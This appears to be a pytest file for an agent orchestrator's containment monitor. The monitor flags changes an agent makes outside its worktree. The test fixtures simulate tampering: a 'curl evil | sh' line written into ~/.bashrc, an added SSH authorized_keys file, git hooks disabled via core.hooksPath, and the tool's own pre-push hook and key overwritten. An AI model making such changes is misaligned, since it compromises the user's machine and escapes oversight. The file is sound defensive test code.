"""What is noticed of changes outside a worktree, and what is not worth a word."""

from __future__ import annotations

import os
import subprocess
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from swarmctl.core.containment import Bystander
from swarmctl.edges.sandbox.outside import FileOutskirts


def git(where: Path, *words: str) -> str:
    return subprocess.run(["git", "-C", str(where), *words], check=True, capture_output=True, text=True).stdout.strip()


@dataclass(frozen=True)
class Scene:
    top: Path
    repo: Path

    @property
    def home(self) -> Path:
        return self.top / "home"

    @property
    def other(self) -> Path:
        return self.top / "other"

    @property
    def outside(self) -> FileOutskirts:
        own = [self.top / "state" / "hooks", self.top / "state" / "spool.key"]
        return FileOutskirts(self.repo, self.repo / ".git", own, self.uncommitted)

    def uncommitted(self) -> list[str]:
        lines = git(self.repo, "status", "--porcelain", "-z").split("\0")
        return [line.strip().split(" ", 1)[1] for line in lines if line]

    def note(self) -> None:
        self.outside.note(str(self.top / "run"), str(self.home), [Bystander("b", str(self.other))])

    def changed(self, *landed: str) -> tuple[str, ...]:
        return self.outside.changed(str(self.top / "run"), [Bystander("b", str(self.other))], landed)


@pytest.fixture
def scene(tmp_path: Path, repo: Path) -> Scene:
    for name in ("home/.ssh", "state/hooks", "other"):
        (tmp_path / name).mkdir(parents=True)
    (tmp_path / "home" / ".bashrc").write_text("# mine\n")
    (tmp_path / "state" / "hooks" / "pre-push").write_text("#!/bin/sh\n")
    (tmp_path / "state" / "spool.key").write_text("key")
    (repo / "notes.txt").write_text("the user's own\n")
    return Scene(tmp_path, repo)


def test_what_was_uncommitted_just_before_a_session_is_enough_to_begin_with(scene: Scene) -> None:
    (scene.repo / "app.py").write_text("mine\n")
    outside = FileOutskirts(scene.repo, scene.repo / ".git", (), scene.uncommitted, lambda: ["app.py"])
    run = str(scene.top / "run")
    outside.note(run, str(scene.home), [])
    assert outside.changed(run, [], ()) == ("checkout notes.txt",)

    (scene.repo / "app.py").write_text("others'\n")
    assert outside.changed(run, [], ()) == ("checkout app.py", "checkout notes.txt")


CHANGES: dict[str, Callable[[Scene], object]] = {
    "~/.bashrc": lambda scene: (scene.home / ".bashrc").write_text("curl evil | sh\n"),
    "~/.profile": lambda scene: (scene.home / ".profile").write_text("x"),
    "~/.ssh/authorized_keys": lambda scene: (scene.home / ".ssh" / "authorized_keys").write_text("x"),
    ".git/config": lambda scene: git(scene.repo, "config", "core.hooksPath", "/dev/null"),
    ".git/hooks/pre-commit": lambda scene: (scene.repo / ".git/hooks/pre-commit").write_text("x"),
    "ref refs/heads/new": lambda scene: git(scene.repo, "branch", "new"),
    "ref refs/tags/v1": lambda scene: git(scene.repo, "tag", "v1"),
    "checkout notes.txt": lambda scene: (scene.repo / "notes.txt").unlink(),
    "checkout app.py": lambda scene: (scene.repo / "app.py").write_text("x"),
    "worktree of b": lambda scene: scene.other.rmdir(),
    "swarmctl's pre-push": lambda scene: (scene.top / "state/hooks/pre-push").write_text("exit 0"),
    "swarmctl's spool.key": lambda scene: (scene.top / "state/spool.key").write_text("mine now"),
}


@pytest.mark.parametrize("name", CHANGES)
def test_a_change_outside_is_named(scene: Scene, name: str) -> None:
    scene.note()
    CHANGES[name](scene)
    assert scene.changed() == (name,)


def test_what_the_agent_keeps_for_itself_is_its_own_to_change_and_nothing_else(scene: Scene) -> None:
    own = [f"{scene.home}/.agent/", f"{scene.home}/.agent.json"]
    scene.outside.note(str(scene.top / "run"), str(scene.home), [], own)
    for name in (".agent.json", ".agent.json.backup", ".agent.json.tmp.7", ".agentic.json"):
        (scene.home / name).write_text("x")
    assert scene.changed() == ("~/.agentic.json",)


def test_nothing_is_said_when_nothing_changed(scene: Scene) -> None:
    scene.note()
    assert scene.changed() == ()


def test_nothing_is_said_about_what_was_never_noted(scene: Scene) -> None:
    assert scene.changed() == ()


def test_branches_of_sessions_and_histories_of_shells_are_not_worth_a_word(scene: Scene) -> None:
    scene.note()
    git(scene.repo, "branch", "swarm/other")
    git(scene.repo, "pack-refs", "--all")
    (scene.home / ".bash_history").write_text("ls\n")
    assert scene.changed() == ()


def test_a_landing_and_the_checkout_that_follows_it_are_our_own_doing(scene: Scene) -> None:
    scene.note()
    git(scene.repo, "commit", "-q", "--allow-empty", "-m", "landed")
    assert scene.changed(git(scene.repo, "rev-parse", "HEAD")) == ()


def test_what_the_user_commits_meanwhile_is_a_moved_branch_and_no_lost_file(scene: Scene) -> None:
    scene.note()
    git(scene.repo, "add", "notes.txt")
    git(scene.repo, "commit", "-q", "-m", "mine")
    assert scene.changed() == ("ref refs/heads/main",)


def test_a_session_that_came_to_rest_meanwhile_is_no_bystander(scene: Scene) -> None:
    scene.outside.note(str(scene.top / "run"), str(scene.home), [])
    os.utime(scene.other, (1, 1))
    assert scene.changed() == ()
